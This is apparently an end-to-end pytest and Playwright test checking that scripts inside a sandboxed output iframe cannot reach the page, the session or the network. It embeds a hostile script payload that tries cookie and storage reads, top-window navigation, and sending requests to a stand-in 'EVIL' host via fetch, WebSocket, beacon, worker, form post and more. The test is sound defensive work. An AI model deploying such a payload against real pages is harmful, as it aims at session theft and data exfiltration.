"""Scripts of outputs in a real browser reach neither the page nor the session nor the network."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, sync_playwright

from e2e.browser import launch
from running import Handloom

# Puts the frame into the page, gives it the output, and collects what its script reports.
EMBED = """([html, address]) => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  frame.setAttribute('sandbox', 'allow-scripts allow-downloads');
  frame.src = address;
  let sent = false;
  addEventListener('message', ({ source, data }) => {
    if (source !== frame.contentWindow) return;
    if (data === 'ready' && !sent) {
      sent = true;
      frame.contentWindow.postMessage({ html, theme: { dark: false, colors: {} } }, '*');
    }
    if (data && data.report) resolve(data.report);
  });
  document.body.append(frame);
})"""
TRY = """<script>
(async () => {
  const report = { ran: true };
  const attempt = async (name, act) => {
    try { report[name] = String(await act()).slice(0, 80); } catch (error) { report[name] = 'refused'; }
  };
  const soon = (act) => Promise.race([act(), new Promise((_, no) => setTimeout(() => no(new Error('late')), 1500))]);
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length);
  await attempt('parent', () => parent.document.title);
  await attempt('topAddress', () => top.location.href);
  await attempt('navigateTop', () => { top.location = 'EVIL/top'; return 'done'; });
  await attempt('fetch', () => soon(() => fetch('EVIL/fetch', { mode: 'no-cors' })));
  const own = async () => (await fetch('OWN/api/v1/workspaces', { credentials: 'include' })).status;
  await attempt('own', () => soon(own));
  await attempt('image', () => soon(() => new Promise((yes, no) => {
    const image = new Image(); image.onload = yes; image.onerror = no; image.src = 'EVIL/image';
  })));
  await attempt('socket', () => soon(() => new Promise((yes, no) => {
    const socket = new WebSocket('EVIL/socket'.replace('http', 'ws')); socket.onopen = yes; socket.onerror = no;
  })));
  await attempt('module', () => soon(() => import('EVIL/module.js')));
  await attempt('worker', () => soon(() => new Promise((yes, no) => {
    const code = "fetch('EVIL/worker').then(() => postMessage('out'), () => postMessage('refused'))";
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = ({ data }) => (data === 'out' ? yes('out') : no(new Error('refused'))); worker.onerror = no;
  })));
  await attempt('beacon', () => navigator.sendBeacon('EVIL/beacon'));
  await attempt('popup', () => { if (!window.open('EVIL/popup')) throw new Error('refused'); return 'opened'; });
  const inner = document.createElement('iframe');
  inner.srcdoc = '<img src="EVIL/inner"><script>fetch("EVIL/inner-fetch")<' + '/script>';
  document.body.append(inner);
  for (const tag of ['link', 'form']) {
    const element = document.createElement(tag);
    Object.assign(element, { rel: 'prefetch', href: 'EVIL/prefetch', action: 'EVIL/form', method: 'post' });
    document.body.append(element);
    if (tag === 'form') element.submit();
  }
  await new Promise((yes) => setTimeout(yes, 500));
  parent.postMessage({ report }, '*');
  location.href = 'EVIL/self';
})();
</script>"""
SILENT = ("navigateTop", "beacon")
"""What a browser refuses without telling the script: that nothing arrived is the proof."""


@dataclass
class Outside:
    """A foreign site, and the requests that reached it."""

    url: str
    asked: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def outside() -> Iterator[Outside]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            place.asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, format: str, *args: Any) -> None:
            pass

    listening = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    place = Outside(f"http://127.0.0.1:{listening.server_address[1]}")
    threading.Thread(target=listening.serve_forever, daemon=True).start()
    yield place
    listening.shutdown()
    listening.server_close()


@pytest.fixture(scope="module")
def page(server: Handloom) -> Iterator[Page]:
    with sync_playwright() as playwright:
        browser = launch(playwright.chromium)
        one = browser.new_context().new_page()
        one.goto(server.new_sign_in_url())
        one.get_by_role("button").click()  # its only one
        one.wait_for_url(server.url + "/")
        assert any(cookie.get("httpOnly") for cookie in one.context.cookies())  # there is a session to steal
        yield one
        browser.close()


@pytest.mark.parametrize("address", ["/output-frame", "/output-frame?network=allowed"])
def test_a_script_of_an_output_reaches_nothing(server: Handloom, outside: Outside, page: Page, address: str) -> None:
    httpx.get(f"{outside.url}/reachable").raise_for_status()
    assert outside.asked == ["/reachable"]
    html = TRY.replace("EVIL", outside.url).replace("OWN", server.url)
    before = page.url
    report = page.evaluate(EMBED, [html, address])
    page.wait_for_timeout(1_000)
    assert report.pop("ran") is True
    assert {name: said for name, said in report.items() if said != "refused" and name not in SILENT} == {}
    assert outside.asked == ["/reachable"]
    assert page.url == before
    assert len(page.context.pages) == 1
    outside.asked.clear()


def test_a_page_that_opens_the_frame_by_itself_cannot_fill_it(server: Handloom, page: Page) -> None:
    alone = page.context.new_page()
    alone.goto(f"{server.url}/output-frame")
    alone.evaluate("postMessage({ html: '<p id=taken>', theme: { colors: {} } }, '*')")
    alone.wait_for_timeout(500)
    assert alone.locator("#taken").count() == 0
    alone.close()
